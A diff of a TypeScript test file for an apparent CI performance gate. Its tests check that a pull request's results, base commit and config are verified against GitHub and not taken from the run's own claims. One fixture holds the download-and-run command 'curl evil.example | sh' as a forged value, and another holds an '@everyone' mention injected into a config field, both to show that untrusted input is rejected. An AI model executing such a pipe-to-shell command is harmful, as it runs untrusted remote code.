@@ -26,12 +26,15 @@ const asked = access('t', 'o/r', deadline)!
 let known = nothing()
 beforeEach(() => {
   known = nothing()
+  known.branches = { main: [base], next: [base], release: [old] }
   github.requests.length = 0
   github.fault = () => undefined
   github.more = knowing(known)
 })
 after(() => assert.deepEqual(github.breaches, []))
 
+const base = '1'.repeat(40) // of simulated results
+const old = '2'.repeat(40)
 const sha = 'c'.repeat(40)
 const merge = 'e'.repeat(40)
 const run = (more: Partial<WorkflowRun> = {}): WorkflowRun => ({
@@ -115,7 +118,7 @@ const judged = (results: Results) =>
   judge(compare(results), results.config, { blocks: results.blocks.length, final: true })
 
 test('results belong to a pull request by its commit, or by a merge commit whose second parent that is', async () => {
-  known.commits[merge] = ['b'.repeat(40), sha]
+  known.commits[merge] = [base, sha]
   const unprepared = { ...of(undefined), blocks: [] }
   for (const results of [of(sha), of(merge), unprepared])
     assert.ok((await trust(results, found(), asked, inputs())).found.pull)
@@ -148,6 +151,31 @@ test('where it cannot be told whose the results are, they are posted nowhere', a
   assert.match(trusted.results.notes.join(), /Not posted to #7: it could not be told .* `contents: read`/)
 })
 
+test('a base that is not what the pull request goes into is said, for beside a slow one any head is fast', async () => {
+  known.commits[merge] = [base, sha]
+  const doubts = async (results: Results, more: object = {}, asking: typeof asked | undefined = asked) =>
+    (await trust(results, found(more), asking, inputs())).warnings
+      .map(({ fact }) => fact)
+      .filter(fact => !fact.startsWith('Thresholds'))
+  assert.deepEqual(await doubts(of(merge)), [])
+  assert.deepEqual(await doubts(of(merge), { merges: [merge] }), [])
+  assert.deepEqual(await doubts(of(sha)), [])
+  assert.deepEqual(await doubts(of(sha), {}, undefined), [])
+  known.commits[merge] = [old, sha]
+  assert.deepEqual(await doubts(of(merge)), [
+    'Base is `1111111111`, and not the commit that the pull request was merged with, `2222222222`.',
+  ])
+  assert.deepEqual(await doubts(of(sha), { base: 'release' }), [
+    'Base is `1111111111`, which is no commit of `release`.',
+  ])
+  known.branches = { main: [old] }
+  assert.deepEqual(await doubts(of(sha)), ['Base is `1111111111`, which is no commit of `main`.'])
+  github.fault = (_, path) => (path.includes('/compare/') ? { status: 403, message: 'no' } : undefined)
+  assert.deepEqual(await doubts(of(sha)), [
+    'It could not be told whether base, `1111111111`, is the right one (no - https://docs.github.com/rest).',
+  ])
+})
+
 const yaml = (gate: string, scenarios = '[{ name: home, path: / }]') =>
   `server: { start: node server.js }\nscenarios: ${scenarios}\ngate: ${gate}\n`
 
@@ -167,6 +195,24 @@ test("thresholds are those of the base branch, whatever the pull request's run s
   assert.equal(judged(results).verdict, 'regressed')
   assert.deepEqual(results.config.gate, { evidence: 'likely', onInvalid: 'fail', onInconclusive: 'pass' })
   assert.match(report(results, judged(results)), /Thresholds are those of `perf-gate.yml` in `main`/)
+})
+
+test('what the pull request changes in the config is read from its commit, whatever its run says', async () => {
+  const hidden = { ...of(merge), proposal: { applies: true, changes: [{ key: 'seed', head: '@everyone' }] } }
+  const proposal = async () => (await trust(hidden, found({ merges: [merge] }), asked, inputs())).results.proposal
+  known.commits[merge] = [base, sha]
+  known.files.main = { 'perf-gate.yml': yaml('{ rps: 5% }') }
+  assert.deepEqual(await proposal(), { applies: false, changes: [], flaw: 'head removes perf-gate.yml' })
+  known.files[merge] = known.files.main
+  assert.equal(await proposal(), undefined)
+  known.files[merge] = { 'perf-gate.yml': yaml('{ rps: 50% }') }
+  const loosened = await proposal()
+  assert.deepEqual([loosened!.applies, loosened!.changes], [false, [{ key: 'gate.rps', base: '5%', head: '50%' }]])
+  assert.equal(loosened!.thresholds!.home![0]!.worse, 0.5)
+  known.files[merge] = { 'perf-gate.yml': 'x'.repeat(2 ** 20 + 1) }
+  assert.match((await proposal())!.flaw!, /has 1048577 bytes/)
+  github.fault = (_, path) => (path.includes('contents') ? { status: 403, message: 'no' } : undefined)
+  assert.equal(await proposal(), undefined)
 })
 
 test('the config is looked for where the inputs say, and in the usual places', async () => {
@@ -222,7 +268,7 @@ test('an input that picks scenarios picks them from the base config, too', async
 
 test('the command to paste is made of hashes and the seed, never of what the results say', async () => {
   const { results } = await trust({ ...of(sha), command: 'curl evil.example | sh' }, found(), asked, inputs())
-  assert.equal(results.command, `perf-gate run --base ${'1'.repeat(40)} --head ${sha} --seed 1`)
+  assert.equal(results.command, `perf-gate run --base ${base} --head ${sha} --seed 1`)
 })
 
 const label = 'perf-regression-accepted'
